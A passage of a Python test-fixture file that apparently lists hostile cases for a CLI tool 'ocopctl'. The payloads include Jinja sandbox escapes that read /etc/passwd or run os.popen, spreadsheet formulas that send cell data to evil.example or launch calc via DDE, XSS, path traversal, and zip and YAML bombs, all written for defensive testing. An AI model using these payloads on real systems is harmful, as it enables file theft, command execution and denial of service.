"""The corpus: hostile and careless cases for every command and every class of issue 9.

A case lays out a fresh folder (a copy of a seed province, or the small repository of
``repo.mini`` with the names and values it chooses, or files written by hand), runs one
``ocopctl`` command in it, and says what is allowed: the exit codes, the output path the
command may write (a file, or a folder for render and schema) and checks on what it wrote.
The runner adds what every case must hold (no traceback, no hang, memory, one-line errors,
inputs unchanged, no stray write, no canary read or changed).

Classes (the issue's numbering): 1 templates reaching files, 2 template bombs, 3 formula
injection, 4 console markup, 5 Markdown (and other output-format) injection, 6 dates at the
calendar's edge, 7 unwritable outputs, 8 outputs over inputs, 9 unreadable spreadsheets,
10 control characters, 11 numbers, 12 YAML memory, 13 scale, 14 FIFOs and devices, 15 commands
that write or report nothing, 16 output permissions, 17 export over an existing file.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

from . import repo as r
from .checks import (
    Check,
    all_md_tables,
    contains,
    csv_rectangular,
    csv_safe,
    lacks,
    md_no_heading,
    md_tables,
    modes,
    no_line,
    wrote,
    xlsx_opens,
    xlsx_rectangular,
    xlsx_safe,
)
from .repo import PLAN, Setup, compose, fifo, mini, mkdir, nothing, seed, symlink, write

CLASSES = {
    1: "templates reach files", 2: "template bombs", 3: "formula injection", 4: "console markup",
    5: "markdown/format injection", 6: "dates at the edge", 7: "unwritable outputs", 8: "outputs over inputs",
    9: "unreadable spreadsheets", 10: "control characters", 11: "numbers", 12: "YAML memory", 13: "scale",
    14: "FIFOs and devices", 15: "silent no-ops", 16: "output permissions", 17: "export over a file",
}

BAD = frozenset({1, 2})  # bad input: findings or a usage error
ODD = frozenset({0, 1})  # odd but valid input: works, maybe with findings
ANY = frozenset({0, 1, 2})  # whatever the command decides, as long as it holds
OK = frozenset({0})
USAGE = frozenset({2})
EDGE = frozenset({0, 2})  # an option at the edge: handled, or refused as an option error


@dataclass(frozen=True)
class Case:
    name: str
    classes: tuple[int, ...]
    argv: tuple[str, ...]
    setup: Setup
    exits: frozenset[int]
    outputs: tuple[str, ...] = ()  # what the command may write (files, or folders)
    checks: tuple[Check, ...] = ()
    weight: float = 1.0  # about how long it takes: the slow ones start first

    @property
    def id(self) -> str:
        return f"c{self.classes[0]:02d}-{self.name}"

    @property
    def command(self) -> str:
        return " ".join(self.argv[:2]) if self.argv[:1] == ("products",) else (self.argv[0] if self.argv else "")


_CASES: list[Case] = []


def add(name: str, classes: int | Sequence[int], argv: Sequence[str], setup: Setup, exits: frozenset[int],
        outputs: Sequence[str] = (), checks: Sequence[Check] = (), weight: float = 1.0) -> None:
    cls = (classes,) if isinstance(classes, int) else tuple(classes)
    _CASES.append(Case(name, cls, tuple(argv), setup, exits, tuple(outputs), tuple(checks), weight))


REPORT = ("report", "--quarter", "Q3-2018", "--as-of", "2018-10-15")
DEADLINES = ("deadlines", "--as-of", "2018-07-01", "--within", "180d")
OWNERS = ("owners", "--as-of", "2018-10-15")
IMPORT_PRODUCTS = ("--kind", "products", "--province", "Tỉnh Mẫu", "--into", "out.yaml")
PRODUCTS_CSV = r.csv_text([r.PRODUCT_HEADER, *r.PRODUCT_ROWS])


def tpl(name: str, text: str) -> Setup:
    """A user template; CANARY in it becomes the canary folder's absolute path, PATH a pathlib.Path
    the render context reaches (a loaded file's path)."""
    return write(f"tpl/{name}", lambda case: text.replace("CANARY", str(case.parent / "canary"))
                 .replace("PATH", "lookup.repo.files[0].path"))


# =========================================================================== 1 templates reach files

ATTACKS: dict[str, str] = {
    "read-canary-via-path": "{{ PATH.joinpath('CANARY/secret.txt').read_text() }}",
    "read-etc-passwd-via-path": "{{ PATH.joinpath('/etc/passwd').read_text() }}",
    "list-canary-folder": "{% for p in PATH.joinpath('CANARY').iterdir() %}{{ p }} {% endfor %}",
    "write-into-canary": "{{ PATH.joinpath('CANARY/pwned.txt').write_text('pwned') }}",
    "write-over-plan": "{{ PATH.write_text('kind: agencies') }}",
    "unlink-plan": "{{ PATH.unlink() }}",
    "unlink-canary": "{{ PATH.joinpath('CANARY/secret.txt').unlink() }}",
    "rename-plan-into-canary": "{{ PATH.rename('CANARY/moved.yaml') }}",
    "symlink-to-canary": "{{ PATH.with_name('leak.yaml').symlink_to('CANARY/secret.txt') }}",
    "pydantic-validate-json-canary": "{{ doc.model_validate_json(PATH.joinpath('CANARY/secret.txt').read_bytes()) }}",
    "class-mro": "{{ doc.__class__.__mro__[-1].__subclasses__() }}",
    "cycler-globals-os": "{{ cycler.__init__.__globals__.os.popen('cat CANARY/secret.txt').read() }}",
    "self-template-reference": "{{ self._TemplateReference__context }}{{ self.__init__.__globals__ }}",
}


def _templates() -> None:
    for name, text in ATTACKS.items():
        add(f"render-template-{name}", 1, ("render", PLAN, "--templates", "tpl", "--to", "md", "-o", "out"),
            compose(mini(), tpl("document.j2", text)), EDGE, ("out",))
    # the same reach from the other formats and the issuance templates
    add("render-template-read-canary-docx", 1, ("render", PLAN, "--templates", "tpl", "--to", "docx", "-o", "out"),
        compose(mini(), tpl("document.j2", "{% import blocks as b %}{{ b.p(PATH.joinpath('CANARY/secret.txt')"
                                           ".read_text(), 'body') }}")), EDGE, ("out",))
    add("render-recognition-template-parse-file", 1,
        ("render", "plans/mau/recognition.yaml", "--templates", "tpl", "--to", "md", "-o", "out"),
        compose(mini(), tpl("recognition.j2", "{% for g in groups %}{% for x in g.rows %}"
                                             "{{ x.product.parse_file('CANARY/secret.txt') }}"
                                             "{% endfor %}{% endfor %}")), EDGE, ("out",))
    add("render-progress-report-template-write", 1,
        ("render", "plans/mau/report-q3.yaml", "--templates", "tpl", "--to", "md", "-o", "out"),
        compose(mini(), tpl("progress_report.j2", "{{ PATH.joinpath('CANARY/pwned').write_text('x') }}")),
        EDGE, ("out",))
    add("render-templates-empty-folder", 1, ("render", PLAN, "--templates", "tpl", "--to", "md", "-o", "out"),
        compose(mini(), mkdir("tpl")), OK, ("out",), [wrote("out/mau/2018-10-kh-ubnd.md")])


# =========================================================================== 2 template bombs

BOMBS: dict[str, str] = {
    "range-10-9": "{% for i in range(10**9) %}x{% endfor %}",
    "range-list": "{{ range(10**9)|list|length }}",
    "recursive-macro": "{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}",
    "self-include": "{% include 'document.j2' %}",
    "power-constant": "{{ 9**(9**9) }}",
    "string-times-constant": "{{ 'x'*10**9 }}",
    "string-times-variable": "{% set s = 'x' %}{% set n = 1000000000 %}{{ s*n }}",
    "format-width": "{{ '%0999999999d'|format(1) }}",
    "replace-blowup": "{% set a = 'a'*100000 %}{{ a|replace('a', 'b'*100000) }}",
    "nested-loops": "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}",
    "output-flood": "{% set s = 'x'*500000 %}{% for i in range(100000) %}{{ s }}{% endfor %}",
    "lipsum-million": "{{ lipsum(1000000) }}",
    "append-loop": "{% set ns = namespace(a=[]) %}{% for i in range(100000) %}"
                   "{% do ns.a.append('x'*100000 ~ i) %}{% endfor %}{{ ns.a|length }}",
}


def _bombs() -> None:
    names_template = contains("stderr", "document.j2", when=(2,))
    for name, text in BOMBS.items():
        add(f"render-bomb-{name}", 2, ("render", PLAN, "--templates", "tpl", "--to", "md", "-o", "out"),
            compose(mini(), tpl("document.j2", text)), USAGE, ("out",), [names_template], weight=10)
    add("render-bomb-output-flood-docx", 2, ("render", PLAN, "--templates", "tpl", "--to", "docx", "-o", "out"),
        compose(mini(), tpl("document.j2", BOMBS["output-flood"])), USAGE, ("out",), [names_template], weight=10)
    add("render-template-syntax-error", 2, ("render", PLAN, "--templates", "tpl", "--to", "md", "-o", "out"),
        compose(mini(), tpl("document.j2", "{% for x in %}\n{{ }}")), USAGE, ("out",), [names_template])


# =========================================================================== 3 formula injection

FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0")


def _formulas() -> None:
    data = mini(titles=FORMULAS, products=FORMULAS, agency=FORMULAS[0], budget_label=FORMULAS[0])
    for fmt, argv, out in (
        ("csv", (*REPORT, "-f", "csv", "-o", "r.csv"), "r.csv"),
        ("csv", ("products", "list", "-f", "csv", "-o", "p.csv"), "p.csv"),
        ("xlsx", ("products", "list", "-f", "xlsx", "-o", "p.xlsx"), "p.xlsx"),
        ("csv", ("rewards", "--rule", "rule.yaml", "-f", "csv", "-o", "w.csv"), "w.csv"),
        ("xlsx", ("rewards", "--rule", "rule.yaml", "-f", "xlsx", "-o", "w.xlsx"), "w.xlsx"),
        ("csv", ("export", PLAN, "--annex", "1", "-o", "t.csv"), "t.csv"),
        ("xlsx", ("export", PLAN, "--annex", "1", "-o", "t.xlsx"), "t.xlsx"),
        ("csv", ("export", PLAN, "--annex", "3", "-o", "b.csv"), "b.csv"),
    ):
        cmd = "-".join(a for a in argv[:2] if not a.startswith(("-", "plans")))
        annex = f"-annex{argv[3]}" if argv[0] == "export" else ""
        safe = csv_safe(out) if fmt == "csv" else xlsx_safe(out)
        classes = (3, 15) if argv[0] == "rewards" and fmt == "xlsx" else 3  # rewards wrote no xlsx at all
        add(f"{cmd}{annex}-{fmt}-formula-cells", classes, argv, data, OK, (out,), [wrote(out), safe])
    add("import-csv-formula-text", 3, ("import", "f.csv", *IMPORT_PRODUCTS),
        write("f.csv", r.csv_text([r.PRODUCT_HEADER, ["1", FORMULAS[0], "thực phẩm", "+HTX", "@Huyện", "4", "75",
                                                       "2019-12-20", "tỉnh"]])), OK, ("out.yaml",),
        [wrote("out.yaml"), contains("out.yaml", "HYPERLINK")])
    add("import-xlsx-formula-without-cached-value", 3, ("import", "f.xlsx", *IMPORT_PRODUCTS),
        write("f.xlsx", r.xlsx_bytes([r.PRODUCT_HEADER, ["1", "=CONCAT(\"Chè\",\" xanh\")", "thực phẩm", "HTX",
                                                          "Huyện A", "=2+2", "75", "2019-12-20", "tỉnh"]])),
        ANY, ("out.yaml",))


# =========================================================================== 4 console markup

MARKUP = "Sở [/] [bold]Mẫu[/bold] [red]đỏ"
MARKUP_CHECKS = ("[/]", "[bold]Mẫu[/bold]")


def _markup() -> None:
    def shows(where: str = "stdout", when: tuple[int, ...] = (0, 1)) -> list[Check]:
        return [contains(where, m, when=when) for m in MARKUP_CHECKS]

    for name, data, argv in (
        ("report-task-title", mini(title=MARKUP), REPORT),
        ("report-agency-name", mini(agency=MARKUP), REPORT),
        ("deadlines-task-title", mini(title=MARKUP), DEADLINES),
        ("deadlines-agency-name", mini(agency=MARKUP), DEADLINES),
        ("owners-agency-name", mini(agency=MARKUP), OWNERS),
        ("products-list-name", mini(product=MARKUP), ("products", "list")),
        ("products-stats-district", mini(district=MARKUP), ("products", "stats")),
    ):
        where = "r.txt" if "-o" in argv else "stdout"
        add(name + "-markup", 4, argv, data, ODD, ("r.txt",) if where != "stdout" else (), shows(where))
    add("validate-agency-reference-markup", 4, ("validate", "--today", "2019-01-01"),
        compose(mini(), write("plans/mau/extra.yaml", f"""kind: progress
document: mau/2018-10-kh-ubnd
agency: {r.q(MARKUP)}
period: Quý III/2018
entries: [{{task: t1, date: 2018-09-20, state: hoàn thành}}]
""")), BAD, (), [contains("stdout", "[/]", when=(1,))])
    add("import-cell-markup", 4, ("import", "m.csv", *IMPORT_PRODUCTS),
        write("m.csv", r.csv_text([r.PRODUCT_HEADER, ["1", "Chè", "thực phẩm", "HTX", "Huyện A", "4",
                                                       "[/][bold]x", "2019-12-20", "tỉnh"]])), BAD, ("out.yaml",),
        [contains("stderr", "[/][bold]x", when=(1, 2))])
    add("import-file-name-markup", 4, ("import", "[bold]t[-bold].csv", *IMPORT_PRODUCTS),
        write("[bold]t[-bold].csv", r.csv_text([r.PRODUCT_HEADER, ["1", "Chè", "thực phẩm", "HTX", "Huyện A", "9",
                                                                    "", "", ""]])), BAD, ("out.yaml",),
        [contains("stderr", "[bold]t[-bold].csv", when=(1, 2))])
    add("rewards-unit-markup", 4, ("rewards", "--rule", "rule.yaml"),
        mini(rule="unit: \"[/] [bold]triệu[/bold]\"\nstars: {5: 30, 4: 20, 3: 10}\n"), ODD, (),
        [contains("stdout", "[bold]triệu[/bold]")])


# =========================================================================== 5 markdown and format injection

PIPE = "Nhiệm vụ A | B\n# Tiêu đề giả\n| x | y |"
HEADING = "# Tiêu đề giả"
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"


def _markdown() -> None:
    md_checks = [md_tables("r.md"), no_line("r.md", r"^# Tiêu đề giả$")]
    add("report-md-task-title-pipe-newline", 5, (*REPORT, "-f", "md", "-o", "r.md"), mini(title=PIPE), OK,
        ("r.md",), [wrote("r.md"), *md_checks])
    add("report-md-agency-name-pipe-newline", 5, (*REPORT, "-f", "md", "-o", "r.md"), mini(agency=PIPE), OK,
        ("r.md",), [wrote("r.md"), *md_checks])
    for name, data, target in (
        ("task-title", mini(title=PIPE), PLAN),
        ("budget-label", mini(budget_label=PIPE), PLAN),
        ("annex-title", mini(annex_title=PIPE), PLAN),
        ("recognition-product", mini(product=PIPE, producer=PIPE), "plans/mau/recognition.yaml"),
        ("progress-report-task", mini(title=PIPE, agency=PIPE), "plans/mau/report-q3.yaml"),
    ):
        add(f"render-md-{name}-pipe-newline", 5, ("render", target, "--to", "md", "-o", "out"), data, OK,
            ("out",), [all_md_tables("out"), md_no_heading("out", HEADING)])
    add("validate-github-annotation-injection", 5, ("validate", "-f", "github", "--today", "2019-01-01"),
        compose(mini(), write("plans/mau/extra.yaml", """kind: progress
document: mau/2018-10-kh-ubnd
agency: "x\\n::warning file=pwned::injected annotation"
period: Quý III/2018
entries: [{task: t1, date: 2018-09-20, state: hoàn thành}]
""")), BAD, (), [no_line("stdout", r"^::warning file=pwned::")])
    add("report-html-script", 5, (*REPORT, "-f", "html", "-o", "r.html"), mini(title=SCRIPT, agency=SCRIPT), OK,
        ("r.html",), [wrote("r.html"), lacks("r.html", "<script>alert"), lacks("r.html", "<img src=x")])


# =========================================================================== 6 dates at the edge


def _dates() -> None:
    base = mini()
    for opt, value in (("--year", "0000"), ("--quarter", "Q4-9999")):
        slug = value.replace("/", "-").replace(" ", "-").replace("ý", "y")
        add(f"report-{opt.strip('-')}-{slug}", 6, ("report", opt, value, "--as-of", "2018-10-15"), base, EDGE)
    value = "9999-12-31"
    add(f"owners-as-of-{value}", 6, ("owners", "--as-of", value), base, EDGE)
    add(f"deadlines-as-of-{value}", 6, ("deadlines", "--as-of", value, "--within", "30d"), base, EDGE)
    add(f"validate-today-{value}", 6, ("validate", "--today", value), base, ANY)
    add("deadlines-within-99999999999d", 6, ("deadlines", "--as-of", "2018-07-01", "--within", "99999999999d"),
        base, EDGE)
    # data at the edge
    rating_9999 = mini(rating_date="9999-12-31")
    for name, argv in (("validate", ("validate",)), ("products-list", ("products", "list"))):
        add(f"{name}-rating-9999-12-31", 6, argv, rating_9999, ANY)
    add("render-document-date-9999-12-31", 6, ("render", PLAN, "--to", "md", "-o", "out"),
        mini(doc_date="9999-12-31"), ANY, ("out",))
    deadline_9999 = mini(timeframe="31/12/9999")
    add("calendar-deadline-9999-12-31", 6, ("calendar", "-o", "c.ics"), deadline_9999, ANY, ("c.ics",))
    # a monthly task over a plan of 0001-9999: 120,000 occurrences
    monthly = mini(period="0001-9999", timeframe="tháng 1-12 hằng năm")
    for name, argv, outs in (("validate", ("validate", "--today", "2019-01-01"), ()),
                             ("report", ("report", "--year", "2020", "--as-of", "2020-06-01"), ()),
                             ("calendar", ("calendar", "-o", "c.ics"), ("c.ics",)),
                             ("render", ("render", PLAN, "--to", "md", "-o", "out"), ("out",))):
        add(f"{name}-monthly-task-period-0001-9999", 6, argv, monthly, ANY, outs, weight=5)
    for text, within, exits in (("tháng 1-12 hằng năm", "0001-9999", ANY), ("Quý IV/9999", None, EDGE),
                                ("31/12/9999", None, EDGE), ("2018-Q3", "9999-10000", BAD)):
        slug = "".join(c if c.isalnum() else "-" for c in unicodedata.normalize("NFD", text)
                       .encode("ascii", "ignore").decode()).strip("-") or "empty"
        argv = ("period", text, *(("--within", within) if within else ()))
        add(f"period-{slug}{'-within-' + within if within else ''}", 6, argv, nothing, exits, weight=3)
    add("period-regex-bomb", 6, ("period", "Quý " + "1" * 50000 + "x"), nothing, ANY)
    add("render-recognition-dated-9999-12-31", 6,
        ("render", "plans/mau/recognition.yaml", "--to", "md", "-o", "out"),
        compose(mini(), write("plans/mau/recognition.yaml", """kind: issuance
id: mau/2019-123-qd-ubnd-cong-nhan
template: recognition
number: 123/QĐ-UBND
issuer: m-ubnd
issuer_lines: [ỦY BAN NHÂN DÂN, TỈNH MẪU]
province: Tỉnh Mẫu
place: Mẫu
date: 9999-12-31
signer: {authority: TM. ỦY BAN NHÂN DÂN, capacity: CHỦ TỊCH}
""")), ANY, ("out",))


# =========================================================================== 7 unwritable outputs

# One per writing command: the argv up to its output option, and the suffix its output takes
# ("" for render and schema, which write into a folder).
WRITERS: dict[str, tuple[tuple[str, ...], str]] = {
    "report": ((*REPORT, "-f", "md", "-o"), ".md"),
    "products-list": (("products", "list", "-f", "xlsx", "-o"), ".xlsx"),
    "products-stats": (("products", "stats", "-f", "html", "-o"), ".html"),
    "rewards": (("rewards", "--rule", "rule.yaml", "-f", "csv", "-o"), ".csv"),
    "calendar": (("calendar", "-o"), ".ics"),
    "import": (("import", "t.csv", "--kind", "products", "--province", "Tỉnh Mẫu", "--force", "--into"), ".yaml"),
    "export": (("export", PLAN, "--annex", "1", "-o"), ".csv"),
    "render": (("render", PLAN, "--to", "md", "-o"), ""),
    "schema": (("schema", "-o"), ""),
}
WRITER_SETUP = compose(mini(), write("t.csv", PRODUCTS_CSV))


def _unwritable() -> None:
    for name, (argv, sfx) in WRITERS.items():
        if sfx:
            add(f"{name}-output-is-directory", 7, (*argv, f"out{sfx}"), compose(WRITER_SETUP, mkdir(f"out{sfx}")),
                USAGE)
        else:  # a folder output named by an existing file
            add(f"{name}-output-is-a-file", 7, (*argv, "out"), compose(WRITER_SETUP, write("out", "not a folder\n")),
                USAGE)
        add(f"{name}-output-parent-is-a-file", 7, (*argv, f"afile/out{sfx}"),
            compose(WRITER_SETUP, write("afile", "a file\n")), USAGE)
    add("report-output-empty-path", 7, (*REPORT, "-o", ""), mini(), USAGE)
    # '-' as the output: stdout, or a file named '-' (either holds)
    for name in ("report", "render"):
        add(f"{name}-output-dash", 7, (*WRITERS[name][0], "-"), WRITER_SETUP, ANY, ("-",))
    add("export-output-with-spaces", 7, ("export", PLAN, "--annex", "1", "-o", "out put.csv"), mini(), OK,
        ("out put.csv",), [wrote("out put.csv")])
    add("export-output-with-newline", 7, ("export", PLAN, "--annex", "1", "-o", "new\nline.csv"), mini(), EDGE,
        ("new\nline.csv",))


# =========================================================================== 8 outputs over inputs


def _over_inputs() -> None:
    over_input = {"report": PLAN, "products-list": PLAN, "products-stats": PLAN, "rewards": "rule.yaml",
                  "calendar": PLAN, "import": "t.csv", "render": "plans/mau"}
    for name, target in over_input.items():
        add(f"{name}-output-is-an-input", 8, (*WRITERS[name][0], target), WRITER_SETUP, USAGE)
    add("rewards-output-is-a-plan", 8, (*WRITERS["rewards"][0], PLAN), WRITER_SETUP, USAGE)
    for name in ("report", "products-list", "products-stats", "rewards", "calendar", "export", "render"):
        sfx = WRITERS[name][1]
        add(f"{name}-output-inside-input-tree", 8, (*WRITERS[name][0], f"plans/mau/out{sfx}"), WRITER_SETUP, USAGE)
    add("report-output-input-spelled-differently", 8, (*REPORT, "-f", "md", "-o", "plans/../plans/mau/./plan.yaml"),
        mini(), USAGE)
    add("report-output-symlink-to-input", 8, (*REPORT, "-f", "md", "-o", "link.md"),
        compose(mini(), symlink("link.md", "plans/mau/plan.yaml")), USAGE)
    add("import-into-its-own-source-via-dot", 8, ("import", "t.csv", "--kind", "products", "--province", "Tỉnh Mẫu",
                                                  "--force", "--into", "./sub/../t.csv"),
        compose(write("t.csv", PRODUCTS_CSV), mkdir("sub")), USAGE)
    add("render-issuance-id-path-traversal", 8, ("render", "plans/mau/x.yaml", "--to", "md", "-o", "out"),
        compose(mini(), write("plans/mau/x.yaml", """kind: issuance
id: ../../../canary/pwned
template: approval
subject: mau/2018-10-kh-ubnd
signer: {capacity: CHỦ TỊCH}
""")), ANY, ("out",))


# =========================================================================== 9 unreadable spreadsheets


_TONES = "\u0300\u0301\u0303\u0309\u0323"  # the five tone marks, which cp1258 writes as combining marks


def _to_cp1258(text: str) -> bytes:
    """Vietnamese in Windows-1258: precomposed where the code page has the letter, else the base
    letter and a combining tone mark, as legacy files have it."""
    out = b""
    for ch in unicodedata.normalize("NFC", text):
        try:
            out += ch.encode("cp1258")
        except UnicodeEncodeError:
            d = unicodedata.normalize("NFD", ch)
            tone = next(m for m in d if m in _TONES)
            out += unicodedata.normalize("NFC", d.replace(tone, "")).encode("cp1258") + tone.encode("cp1258")
    return out


def _spreadsheets() -> None:
    imp = ("import", "t.xlsx", *IMPORT_PRODUCTS)
    good = r.xlsx_bytes([r.PRODUCT_HEADER, *r.PRODUCT_ROWS])
    imported = [contains("out.yaml", "Cà phê Mẫu", when=(0,))]
    for name, content, exits in (
        ("corrupt-bytes", bytes(range(256)) * 64, BAD),
        ("truncated", good[: len(good) // 2], BAD),
        ("not-a-zip", PRODUCTS_CSV.encode(), BAD),
        ("zip-without-workbook", _zip_of({"readme.txt": b"hello"}), BAD),
        ("zero-bytes", b"", BAD),
        ("bad-sheet-xml", r.xlsx_with_sheet(r.sheet(r.header_rows_xml())[:-40]), BAD),
        ("shared-string-out-of-range", r.xlsx_with_sheet(r.sheet(
            r.header_rows_xml() + '<row r="4"><c r="B4" t="s"><v>99</v></c></row>'), shared=["a"]), ANY),
        ("formula-cached-value-badly-typed", r.xlsx_with_sheet(r.sheet(
            r.header_rows_xml() + '<row r="4"><c r="A4"><v>3</v></c><c r="B4" t="inlineStr"><is><t>Mật ong</t></is>'
            '</c><c r="F4" t="n"><f>1+1</f><v>abc</v></c></row>')), BAD),
        ("cell-reference-garbage", r.xlsx_with_sheet(r.sheet(
            r.header_rows_xml() + '<row r="4"><c r="ZZZZZZ99999999999"><v>1</v></c></row>')), ANY),
        ("dimension-bomb", r.xlsx_with_sheet(r.sheet(
            r.header_rows_xml() + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
            dimension="A1:XFD1048576")), ANY),
        ("merged-cell-bomb", r.xlsx_with_sheet(r.sheet(
            r.header_rows_xml(), extra='<mergeCells count="1"><mergeCell ref="A3:XFD1048576"/></mergeCells>')), ANY),
        ("zip-bomb", r.zip_bomb_xlsx(), BAD),
    ):
        add(f"import-xlsx-{name}", 9, imp, write("t.xlsx", content), exits, ("out.yaml",), weight=3)
    add("import-xlsx-directory", 9, imp, mkdir("t.xlsx"), USAGE, ("out.yaml",))
    csv_imp = ("import", "t.csv", *IMPORT_PRODUCTS)
    for name, content, exits in (
        ("latin1", r.csv_text([["TT", "Ten san pham", "Chu the", "Huyen"], ["1", "Cà phê Mau", "HTX Hà", "Huyen A"]])
         .encode("latin-1"), EDGE),
        ("utf16-bom", PRODUCTS_CSV.encode("utf-16"), EDGE),
        ("cp1258", _to_cp1258(PRODUCTS_CSV), EDGE),
        ("unterminated-quote", (PRODUCTS_CSV + '3,"Mật ong,thực phẩm\n' * 3).encode(), ANY),
        ("ten-megabyte-field", (PRODUCTS_CSV + "3," + "x" * 10_000_000 + ",thực phẩm,HTX,Huyện A,,,,\n").encode(),
         ANY),
        ("hundred-thousand-columns", (",".join(f"Cột {i}" for i in range(100_000)) + "\n1,2\n").encode(), BAD),
    ):
        checks = imported if name in ("utf16-bom", "cp1258") else []
        if name == "latin1":
            checks = [contains("out.yaml", "Cà phê Mau", when=(0,)), contains("out.yaml", "HTX Hà", when=(0,))]
        add(f"import-csv-{name}", 9, csv_imp, write("t.csv", content), exits, ("out.yaml",), checks, weight=2)
    add("import-csv-file-name-with-newline", 9, ("import", "a\nb.csv", *IMPORT_PRODUCTS),
        write("a\nb.csv", PRODUCTS_CSV), OK, ("out.yaml",), [wrote("out.yaml")])
    add("import-dash-as-file", 9, ("import", "-", *IMPORT_PRODUCTS), nothing, USAGE, ("out.yaml",))


def _zip_of(members: dict[str, bytes]) -> bytes:
    import io
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


# =========================================================================== 10 control characters

CONTROL = "Tên\x01\x07\x08 \x1b[31mđỏ\x0b\x0c\x7f\x85\u2028 hết"


def _control() -> None:
    data = mini(title=CONTROL, agency=CONTROL, product=CONTROL, producer=CONTROL, district=CONTROL,
                budget_label=CONTROL)
    for name, argv, outs, checks in (
        ("validate", ("validate", "--today", "2019-01-01"), (), []),
        ("products-list-xlsx", ("products", "list", "-f", "xlsx", "-o", "p.xlsx"), ("p.xlsx",), [xlsx_opens("p.xlsx")]),
        ("rewards-xlsx", ("rewards", "--rule", "rule.yaml", "-f", "xlsx", "-o", "w.xlsx"), ("w.xlsx",),
         [xlsx_opens("w.xlsx")]),
        ("export-tasks-xlsx", ("export", PLAN, "--annex", "1", "-o", "t.xlsx"), ("t.xlsx",), [xlsx_opens("t.xlsx")]),
        ("export-products-xlsx", ("export", PLAN, "--annex", "2", "-o", "p.xlsx"), ("p.xlsx",),
         [xlsx_opens("p.xlsx")]),
        ("export-budget-xlsx", ("export", PLAN, "--annex", "3", "-o", "b.xlsx"), ("b.xlsx",), [xlsx_opens("b.xlsx")]),
        ("report-md", (*REPORT, "-f", "md", "-o", "r.md"), ("r.md",), []),
        ("calendar", ("calendar", "-o", "c.ics"), ("c.ics",), []),
        ("render-docx", ("render", PLAN, "--to", "docx", "-o", "out"), ("out",), []),
    ):
        add(f"{name}-control-characters", 10, argv, data, ANY, outs, checks)
    add("import-csv-control-characters", 10, ("import", "t.csv", *IMPORT_PRODUCTS),
        write("t.csv", r.csv_text([r.PRODUCT_HEADER, ["1", CONTROL, "thực phẩm", CONTROL, "Huyện A", "4", "75",
                                                       "2019-12-20", "tỉnh"]])), ANY, ("out.yaml",))
    add("import-xlsx-control-characters", 10, ("import", "t.xlsx", *IMPORT_PRODUCTS),
        write("t.xlsx", r.xlsx_with_sheet(r.sheet(r.header_rows_xml() + r.inline_row(4, [
            "3", "Tên_x0001__x001B_đỏ", "thực phẩm", "HTX_x0007_", "Huyện A", "4", "75", "2019-12-20", "tỉnh"])))),
        ANY, ("out.yaml",))


# =========================================================================== 11 numbers

MILLION = "9" * 1_000_000
ARGV_DIGITS = "9" * 100_000  # one argument may not pass 128 KiB on Linux


def _numbers() -> None:
    big = mini(budget_value=MILLION)
    for name, argv, outs in (
        ("validate", ("validate", "--today", "2019-01-01"), ()),
        ("export-budget-csv", ("export", PLAN, "--annex", "3", "-o", "b.csv"), ("b.csv",)),
        ("render-md", ("render", PLAN, "--to", "md", "-o", "out"), ("out",)),
    ):
        add(f"{name}-million-digit-budget", 11, argv, big, ANY, outs, weight=2)
    exp = mini(budget_value="1e999999999")
    add("export-budget-exponent-bomb", 11, ("export", PLAN, "--annex", "3", "-o", "b.csv"), exp, ANY, ("b.csv",))
    add("validate-million-digit-score", 11, ("validate", "--today", "2019-01-01"), mini(score=MILLION), ANY)
    for name, rule in (("million-digit", f"unit: triệu đồng\nstars: {{5: {MILLION}, 4: 20}}\n"),
                       ("exponent", "unit: triệu đồng\nstars: {5: 1e999999999, 4: 1E+999999999}\n"),
):
        fmt = "csv" if name == "exponent" else "text"
        add(f"rewards-{fmt}-rule-{name}", 11, ("rewards", "--rule", "rule.yaml", "-f", fmt), mini(rule=rule),
            ANY if name == "exponent" else BAD)
    add("import-csv-million-digit-score", 11, ("import", "t.csv", *IMPORT_PRODUCTS),
        write("t.csv", r.csv_text([r.PRODUCT_HEADER, ["1", "Chè", "thực phẩm", "HTX", "Huyện A", "4", MILLION,
                                                       "2019-12-20", "tỉnh"]])), BAD, ("out.yaml",))
    add("import-budget-csv-million-digits", 11, ("import", "b.csv", "--kind", "budget", "--parent",
                                                 "mau/2018-10-kh-ubnd", "--into", "out.yaml"),
        write("b.csv", r.csv_text([["TT", "Nội dung", "2018", "Tổng"], ["1", "Ngân sách", MILLION, "1"]])), BAD,
        ("out.yaml",))
    add("report-year-100k-digits", 11, ("report", "--year", ARGV_DIGITS), mini(), USAGE)
    add("deadlines-within-100k-digits", 11, ("deadlines", "--within", ARGV_DIGITS + "d"), mini(), USAGE)


# =========================================================================== 12 YAML memory


def _yaml() -> None:
    bombs: tuple[tuple[str, Callable[[Path], str], tuple[str, ...], frozenset[int]], ...] = (
        ("validate-20000-nested-sequences", lambda _c: r.nested_sequences(20_000), ("validate",), BAD),
        ("validate-20000-nested-mappings", lambda _c: r.nested_mappings(20_000), ("validate",), BAD),
        ("validate-billion-laughs", lambda _c: r.billion_laughs(), ("validate",), BAD),
        ("validate-alias-bomb-validated-tasks", lambda _c: r.alias_bomb_tasks(), ("validate",), BAD),
        ("validate-recursive-alias", lambda _c: "kind: document\nid: &a [*a]\n", ("validate",), BAD),
        ("validate-million-unknown-keys", lambda _c: r.many_unknown_keys(1_000_000), ("validate",), BAD),
        ("validate-100k-near-miss-keys", lambda _c: "kind: agencies\nagencies: []\n" + "".join(
            f"agencies{i}: 1\nprovincee{i}: 1\n" for i in range(50_000)), ("validate",), BAD),
        ("validate-million-unknown-keys-in-one-task", lambda _c: r.big_plan(1).rstrip("\n")[:-1] + ", " + ", ".join(
            f"x{i}: 1" for i in range(1_000_000)) + "}\n", ("validate",), BAD),
        ("validate-million-duplicate-keys", lambda _c: "kind: agencies\nagencies: []\n" + "province: x\n" * 1_000_000,
         ("validate",), BAD),
